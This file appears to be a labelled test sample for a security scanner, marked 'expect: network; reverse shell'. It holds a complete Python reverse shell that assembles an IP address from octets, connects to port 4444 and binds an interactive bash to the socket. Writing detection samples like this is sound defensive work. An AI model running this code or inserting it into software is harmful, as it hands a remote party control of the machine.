# expect: network; reverse shell: Popen bound to a connected socket's file descriptor
import socket
import subprocess

addr = ".".join(str(octet) for octet in (10, 66, 0, 12))
sock = socket.create_connection((addr, 4444), timeout=5)
subprocess.Popen(["/bin/bash", "-i"], stdin=sock.fileno(), stdout=sock.fileno(),
                 stderr=sock.fileno()).wait()
